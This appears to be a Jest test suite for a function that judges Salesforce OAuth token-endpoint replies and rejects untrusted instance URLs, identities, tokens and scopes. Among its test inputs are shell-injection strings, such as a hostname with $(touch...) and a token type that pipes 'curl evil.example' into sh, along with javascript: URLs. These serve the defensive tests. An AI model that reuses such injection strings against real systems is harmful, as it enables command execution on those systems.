import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { loginUrl } from '../../src/assertion/login-url.ts';
import { judgeTokenReply } from '../../src/token/response.ts';

const url = loginUrl('https://acme.my.salesforce.com');
const orgId = '00D5f000000AbCdEAK';
const good = {
  access_token: `${orgId.slice(0, 15)}!AQEAQ.madeUpForTests`,
  scope: 'api web api',
  instance_url: 'https://acme.my.salesforce.com',
  id: `https://login.salesforce.com/id/${orgId}/0055f000000AbCdAAK`,
  token_type: 'Bearer',
  issued_at: '1795176000000',
};
const reply = (members: object, status = 200) => ({ status, headers: {}, body: JSON.stringify(members) });
const judge = (members: object, at = url) => judgeTokenReply(reply({ ...good, ...members }), at);
const sentence = (members: object, at = url) => {
  const judgement = judge(members, at);
  if (judgement.kind !== 'refused') throw new Error(`judged ${judgement.kind}`);
  expect(judgement.failure.code).toBe('ERR_REPLY_UNTRUSTED');
  return judgement.failure.message;
};

describe('the reply of the token endpoint', () => {
  it('becomes a session when all of it holds together', () => {
    const judgement = judge({});
    expect(judgement).toMatchObject({
      kind: 'accepted',
      session: {
        orgId,
        userId: '0055f000000AbCdAAK',
        orgKind: 'production',
        tokenFormat: 'opaque',
        scopes: ['api', 'web'],
        instanceUrl: 'https://acme.my.salesforce.com',
      },
    });
    expect(judgement.kind === 'accepted' && judgement.session.issuedAt?.toISOString()).toBe('2026-11-20T12:00:00.000Z');
    expect(JSON.stringify(judgement)).not.toContain('madeUpForTests');
  });

  it('may name another host of Salesforce as the instance', () => {
    expect(judge({ instance_url: 'https://acme.my.salesforce.com/' }).kind).toBe('accepted');
    expect(judge({ instance_url: 'https://na139.salesforce.com' }).kind).toBe('accepted');
  });

  it.each([
    'https://evil.example',
    'http://acme.my.salesforce.com',
    'https://acme.my.salesforce.com:8443',
    'https://user@acme.my.salesforce.com',
    'https://acme.my.salesforce.com/path',
    'https://acme.my.salesforce.com?x=1',
    'https://acme.my.salesforce.com.evil.example',
    'https://$(touch${IFS}pwned);`id`.my.salesforce.com',
    "https://a'b.my.salesforce.com",
    'javascript:alert(1)',
    'nonsense',
    '',
  ])('is not believed with the instance_url "%s"', (instance_url) => {
    expect(sentence({ instance_url })).toContain('instance_url');
  });

  it.each([
    'https://evil.example/id/00D5f000000AbCdEAK/0055f000000AbCdAAK',
    'https://login.salesforce.com/id/00D5f000000AbCdEAK',
    'https://login.salesforce.com/id/0015f000000AbCdEAK/0055f000000AbCdAAK',
    'http://login.salesforce.com/id/00D5f000000AbCdEAK/0055f000000AbCdAAK',
    '',
  ])('is not believed with the id "%s"', (id) => {
    expect(sentence({ id })).toContain('`id`');
  });

  it('is not believed when the token is of another org than the identity', () => {
    expect(sentence({ access_token: '00D5f000000ZZZZ!AQEAQ.madeUpForTests' })).toContain(
      `an identity of org ${orgId} beside a token of another org`,
    );
  });

  it.each(['madeUpForTests', '00D!madeUpForTests', 'not.a.jwtOfTests'])(
    'is not believed with the token %s, which names no org',
    (access_token) => {
      expect(sentence({ access_token })).toContain('names no org');
    },
  );

  it.each([
    ['x', 'short'],
    [`${orgId}!with space`, 'space'],
    [`${orgId}!line\nbreak`, 'line break'],
    [`${orgId}!$(curl)`, 'shell'],
    [`${orgId}!\`curl\``, 'backticks'],
    [`${orgId}!";id;"`, 'quotes'],
    [`${orgId}!{{x}}`, 'template'],
  ])('is not believed with a token that is none (%#)', (access_token) => {
    expect(sentence({ access_token })).toContain('access token');
  });

  it.each(['mac', 'Bearer"; curl evil.example | sh', 'Bearer\nx=y', 'Bearer '])(
    'is not believed with the token type %j',
    (token_type) => {
      expect(sentence({ token_type })).toContain('no bearer token');
    },
  );

  it.each(['Bearer', 'bearer', undefined])('has one name for the token type %j', (token_type) => {
    expect(judge({ token_type })).toMatchObject({ kind: 'accepted', session: { tokenType: 'Bearer' } });
  });

  it.each([
    ['1795176000000', 1_795_176_000_000],
    [1_795_176_000_000, 1_795_176_000_000],
    ['soon', undefined],
    [-1, undefined],
    [0, undefined],
    [1e300, undefined],
    [null, undefined],
  ])('was issued at %j', (issued_at, time) => {
    const judgement = judge({ issued_at });
    expect(judgement.kind === 'accepted' && judgement.session.issuedAt?.getTime()).toBe(time);
  });

  it.each([
    ['https://test.salesforce.com', 'https://acme--uat.sandbox.my.salesforce.com', 'sandbox'],
    ['https://test.salesforce.com', 'https://acme.my.salesforce.com', 'sandbox'],
    ['https://test.salesforce.com', 'https://x.scratch.my.salesforce.com', 'scratch'],
    ['https://login.salesforce.com', 'https://acme.my.salesforce.com', 'production'],
    ['https://login.salesforce.com', 'https://acme--uat.sandbox.my.salesforce.com', 'sandbox'],
    ['https://acme--uat.sandbox.my.salesforce.com', 'https://acme--uat.sandbox.my.salesforce.com', 'sandbox'],
  ])('tells the kind of org by the identity on %s at %s: %s', (identity, instance_url, kind) => {
    const judgement = judge({ id: `${identity}/id/${orgId}/0055f000000AbCdAAK`, instance_url });
    expect(judgement).toMatchObject({ kind: 'accepted', session: { orgKind: kind } });
  });

  it('says nothing of when it was issued when that is an object, even one that cannot become a number', () => {
    for (const issued_at of [{ toString: null, valueOf: null }, ['1795176000000'], true, null]) {
      expect(judge({ issued_at })).toMatchObject({ kind: 'accepted', session: { issuedAt: undefined } });
    }
  });

  it('reads a JWT-format token with its end', () => {
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const access_token = `${part({ alg: 'RS256' })}.${part({ exp: 1795176900 })}.c2lnbmF0dXJl`;
    expect(judge({ access_token })).toMatchObject({
      kind: 'accepted',
      session: { tokenFormat: 'jwt', expiresAt: new Date(1795176900000) },
    });
  });

  it.each([
    [200, '<html><body>Data Not Available</body></html>', 'a page of HTML'],
    [200, '', 'an empty body'],
    [200, '[]', 'JSON belongs'],
    [200, '{"access_token":7}', 'no access token'],
    [200, '{"access_token":', 'JSON belongs'],
    [503, 'Service Unavailable', '503'],
    [500, '{"error":"invalid_grant","error_description":"invalid assertion"}', '500'],
    [429, '', '429'],
    [400, '<!DOCTYPE html>', 'HTML'],
    [400, '{"error":"unknown_error","error_description":"retry your request"}', 'retry your request'],
  ])('is an outage: %i %s', (status, body, seen) => {
    const judgement = judgeTokenReply({ status, headers: {}, body }, url);
    expect(judgement.kind).toBe('unavailable');
    expect(judgement.kind === 'unavailable' && judgement.seen).toContain(seen);
  });

  it('names where a redirect points and does not go there', () => {
    const judgement = judgeTokenReply(
      { status: 302, headers: { location: 'https://cs12.salesforce.com/x?assertion=1' }, body: '' },
      url,
    );
    expect(judgement.kind === 'refused' && judgement.failure.code).toBe('ERR_TOKEN_REDIRECT');
    expect(judgement.kind === 'refused' && judgement.failure.message).toContain('https://cs12.salesforce.com.');
  });

  it.each(['javascript:alert(1)', 'data:text/html,x', 'https://', 'mailto:a@b.example'])(
    'says that a redirect to %s points to no host',
    (location) => {
      const judgement = judgeTokenReply({ status: 302, headers: { location }, body: '' }, url);
      expect(judgement.kind === 'refused' && judgement.failure.message).toContain('points to something that is no');
    },
  );

  it('does not wait for a login rate that lasts an hour', () => {
    const judgement = judgeTokenReply(
      reply({ error: 'rate_limit_exceeded', error_description: 'login rate exceeded' }, 429),
      url,
    );
    expect(judgement).toMatchObject({ kind: 'rejected', rejection: { code: 'ERR_TOKEN_LOGIN_RATE' } });
  });

  it.each([300, 399])('of status %i is a redirect, even one that names no address', (status) => {
    const judgement = judgeTokenReply({ status, headers: {}, body: JSON.stringify(good) }, url);
    expect(judgement).toMatchObject({ kind: 'refused', failure: { code: 'ERR_TOKEN_REDIRECT' } });
    expect(judgement.kind === 'refused' && judgement.failure.message).toBe(
      `acme.my.salesforce.com answered ${status} and points to an address that it does not name.`,
    );
  });

  it.each([200, 400, 401])('of status %i that tells an error is a rejection, in its own words', (status) => {
    const body = JSON.stringify({ error: 'invalid_grant', error_description: 'ip restricted' });
    expect(judgeTokenReply({ status, headers: {}, body }, url)).toMatchObject({
      kind: 'rejected',
      rejection: { code: 'ERR_TOKEN_IP_RESTRICTED', reply: 'invalid_grant: ip restricted' },
    });
  });

  it('of an error whose description is no text has the error alone for its words', () => {
    expect(judgeTokenReply(reply({ error: 'inactive_org', error_description: 7 }, 400), url)).toMatchObject({
      kind: 'rejected',
      rejection: { reply: 'inactive_org' },
    });
  });

  it.each([
    [
      201,
      'x'.repeat(12),
      'acme.my.salesforce.com answered 201 with 12 characters that are no such answer, which no token',
    ],
    [404, ' \n', 'acme.my.salesforce.com answered 404 with an empty body, which no token endpoint does.'],
    [404, '{"message":"no"}', 'acme.my.salesforce.com answered 404 with 16 characters that are no such answer, which'],
    [404, 'see <html>', 'acme.my.salesforce.com answered 404 with 10 characters that are no such answer, which'],
  ])('of status %i with %j is none of a token endpoint', (status, body, words) => {
    const judgement = judgeTokenReply({ status, headers: {}, body }, url);
    expect(judgement).toMatchObject({ kind: 'refused', failure: { code: 'ERR_REPLY_UNTRUSTED' } });
    expect(judgement.kind === 'refused' && judgement.failure.message).toContain(words);
  });

  it('is a page of HTML with spaces in front as well', () => {
    expect(judgeTokenReply({ status: 400, headers: {}, body: ' \r\n<HTML>' }, url)).toEqual({
      kind: 'unavailable',
      seen: '400 with a page of HTML',
    });
  });

  it('holds each scope once, whatever lies between them, and no scope that could be something else', () => {
    const scopes = (scope: string) => {
      const judgement = judge({ scope });
      return judgement.kind === 'accepted' && judgement.session.scopes;
    };
    expect(scopes('  api \t web  api ')).toEqual(['api', 'web']);
    expect(scopes('api "web" $(id) refresh_token; lightning:x')).toEqual(['api', 'lightning:x']);
    expect(scopes('')).toEqual([]);
  });

  it('is not believed with characters in front of a token or of what it names', () => {
    expect(sentence({ access_token: `"${good.access_token}` })).toContain('an access token that is none');
    expect(sentence({ access_token: `x${good.access_token}` })).toContain('names no org');
    expect(sentence({ id: good.id.replace('/id/', '/x/id/') })).toContain('`id`');
    expect(sentence({ id: `${good.id}/x` })).toContain('`id`');
    expect(sentence({ id: `https://login.salesforce.com:8443/id/${orgId}/0055f000000AbCdAAK` })).toContain('`id`');
  });

  it('may name its ids in the short form', () => {
    const id = `https://login.salesforce.com/id/${orgId.slice(0, 15)}/0055f000000AbCd`;
    expect(judge({ id, access_token: `${orgId}!AQEAQ.madeUpForTests` })).toMatchObject({
      kind: 'accepted',
      session: { orgId: orgId.slice(0, 15), userId: '0055f000000AbCd' },
    });
  });

  it.each([
    [{ instance_url: '' }, 'an `instance_url` that is missing'],
    [{ instance_url: 'nonsense' }, 'an `instance_url` that is no address'],
    [{ instance_url: 'mailto:a@b.example' }, 'an `instance_url` on no host that is neither'],
    [{ instance_url: 'https://evil.example' }, 'an `instance_url` on evil.example that is neither'],
    [{ instance_url: 'https://:pw@acme.my.salesforce.com' }, 'an `instance_url` on acme.my.salesforce.com that'],
    [{ instance_url: 'https://acme.my.salesforce.com#x' }, 'an `instance_url` on acme.my.salesforce.com that'],
    [{ id: '' }, 'an `id` that is missing'],
  ])('with %j is told as answered with %s', (members, words) => {
    expect(sentence(members)).toContain(`The login was answered with ${words}`);
  });

  describe('of a host that is allowed by name', () => {
    const gateway = loginUrl('https://gateway.example:8443', ['gateway.example:8443']);
    const at = {
      instance_url: 'https://gateway.example:8443',
      id: `https://gateway.example:8443/id/${orgId}/0055f000000AbCdAAK`,
    };

    it('may name that host and no neighbour of it', () => {
      expect(judge(at, gateway)).toMatchObject({ kind: 'accepted', session: { orgKind: 'unknown' } });
      expect(sentence({ ...at, instance_url: 'https://gateway.example' }, gateway)).toContain('`instance_url`');
      expect(sentence({ ...at, id: at.id.replace(':8443', '') }, gateway)).toContain('`id`');
    });

    it('tells the kind of org by whichever host tells one', () => {
      const kind = (members: object, asked = gateway) => {
        const judgement = judge({ ...at, ...members }, asked);
        return judgement.kind === 'accepted' && judgement.session.orgKind;
      };
      expect(kind({ instance_url: 'https://acme--uat.sandbox.my.salesforce.com' })).toBe('sandbox');
      expect(kind({ id: good.id })).toBe('production');
      const scratch = loginUrl('https://x.scratch.my.salesforce.com');
      const na1 = 'https://na1.salesforce.com';
      expect(kind({ id: good.id, instance_url: na1 }, scratch)).toBe('scratch');
      const own = `https://acme--uat.sandbox.my.salesforce.com`;
      const id = `${own}/id/${orgId}/0055f000000AbCdAAK`;
      expect(kind({ id, instance_url: na1 }, loginUrl(own))).toBe('sandbox');
    });
  });

  describe('with a JWT-format token', () => {
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const token = (claims: object) => `${part({ alg: 'RS256' })}.${part(claims)}.c2lnbmF0dXJl`;

    it.each(['organization_id', 'org_id', 'oid'])(
      'is not believed when the token names another org as its %s',
      (name) => {
        expect(sentence({ access_token: token({ [name]: '00D5f000000ZZZZEAK' }) })).toContain('a token of another org');
        expect(judge({ access_token: token({ [name]: orgId.slice(0, 15) }) }).kind).toBe('accepted');
        expect(judge({ access_token: token({ [name]: 'a tenant of some other service' }) }).kind).toBe('accepted');
        expect(judge({ access_token: token({ [name]: 7 }) }).kind).toBe('accepted');
      },
    );

    it('takes the claim that Salesforce documents before the others', () => {
      const other = '00D5f000000ZZZZEAK';
      expect(judge({ access_token: token({ organization_id: orgId, org_id: other, oid: other }) }).kind).toBe(
        'accepted',
      );
      expect(judge({ access_token: token({ org_id: orgId, oid: other }) }).kind).toBe('accepted');
    });

    it.each([[[]], [null], [4]])('whose claims are %j is not taken for one', (claims) => {
      const access_token = `${part({})}.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c2ln`;
      expect(sentence({ access_token })).toContain('names no org');
    });

    it('has three parts and no more', () => {
      expect(sentence({ access_token: `${token({ org_id: orgId })}.more` })).toContain('names no org');
      expect(sentence({ access_token: `~${token({ org_id: orgId })}` })).toContain('names no org');
    });
  });

  it('never crashes, whatever comes', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 100, max: 599 }),
        fc.oneof(
          fc.string(),
          fc.json(),
          fc.object().map((o) => JSON.stringify({ ...good, ...o })),
        ),
        (status, body) => {
          expect(['accepted', 'rejected', 'unavailable', 'refused']).toContain(
            judgeTokenReply({ status, headers: {}, body }, url).kind,
          );
        },
      ),
      { numRuns: 1000 },
    );
  });
});
